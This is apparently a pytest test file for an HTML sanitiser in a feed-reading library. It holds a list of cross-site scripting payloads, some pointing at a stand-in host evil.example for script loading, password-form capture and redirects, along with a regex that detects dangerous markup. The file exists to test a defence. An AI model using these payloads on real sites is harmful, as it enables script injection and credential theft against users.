import re

import pytest

from feedmill_fetch.sanitising import absolute_url, sanitise

BASE = "https://site.example/blog/post.html"

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#x6A;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example/'><input name=password><button>Go</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<video><source onerror=alert(1) src=x></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<img srcset='javascript:alert(1) 1x, data:image/svg+xml,x 2x'>",
    "<video poster='javascript:alert(1)' src='data:video/mp4,x'></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p id=location name=cookie class=fixed>x</p>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<a href='https://x.example/' target=_blank rel=opener>x</a>",
]

DANGER = re.compile(
    r"<(?:script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|template|noscript)"
    r"|<[^>]*\s(?:on\w+|style|id|name|class|target|srcdoc|formaction)\s*="
    r"|<[^>]*=\s*[\"']?\s*(?:javascript|data|vbscript):",
    re.IGNORECASE,
)


def parts(markup: str) -> list[str]:
    """Attributes in order, as the sanitiser gives them in any; tags and text as they come."""
    return sorted(re.findall(r'[\w-]+="[^"]*"', markup)) + re.findall(r"<\w+|>[^<]*", markup)


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_that_acts_survives(markup: str) -> None:
    once = sanitise(f"<p>before</p>{markup}<p>after</p>", BASE)

    assert not DANGER.search(once)
    assert "<p>before</p>" in once
    assert "<p>after</p>" in once
    assert parts(sanitise(once, BASE)) == parts(once)


@pytest.mark.parametrize(
    ("markup", "clean"),
    [
        pytest.param(
            '<a href="../about?x=1&amp;y=2#z" onclick="x()">About</a>',
            '<a href="https://site.example/about?x=1&amp;y=2#z" '
            'rel="noopener noreferrer nofollow ugc">About</a>',
            id="link",
        ),
        pytest.param(
            '<a href="mailto:a@b.example">Write</a>',
            '<a href="mailto:a@b.example" rel="noopener noreferrer nofollow ugc">Write</a>',
            id="mail",
        ),
        pytest.param(
            '<img src="/a.png" alt="A" srcset="/a.png 1x, b,c.png 2x" width="3">',
            '<img src="https://site.example/a.png" alt="A" '
            'srcset="https://site.example/a.png 1x, https://site.example/blog/b,c.png 2x" '
            'width="3" loading="lazy" referrerpolicy="no-referrer">',
            id="image",
        ),
        pytest.param(
            '<img src="data:image/gif;base64,R0lG" alt="A">',
            '<img alt="A" loading="lazy" referrerpolicy="no-referrer">',
            id="image in the page itself",
        ),
        pytest.param(
            '<video src="v.mp4" autoplay></video>',
            '<video src="https://site.example/blog/v.mp4" controls="" preload="none"></video>',
            id="video",
        ),
        pytest.param(
            "<h2>H</h2><ul><li>a</li></ul><pre><code>x &lt; y\n</code></pre><table><tr><th>n</th></tr></table>",
            "<h2>H</h2><ul><li>a</li></ul><pre><code>x &lt; y\n</code></pre>"
            "<table><tbody><tr><th>n</th></tr></tbody></table>",
            id="structure",
        ),
        pytest.param("<article><font>x</font></article>", "x", id="unknown tags lose themselves"),
    ],
)
def test_what_an_article_needs_survives(markup: str, clean: str) -> None:
    assert parts(sanitise(markup, BASE)) == parts(clean)


@pytest.mark.parametrize(
    ("url", "absolute"),
    [
        ("/a", "https://site.example/a"),
        ("//cdn.example/a", "https://cdn.example/a"),
        (" http://x.example/ ", "http://x.example/"),
        ("ftp://x.example/", None),
        ("http://[", None),
        ("mailto:a@b.example", None),
    ],
)
def test_where_a_link_leads(url: str, absolute: str | None) -> None:
    assert absolute_url(url, BASE) == absolute
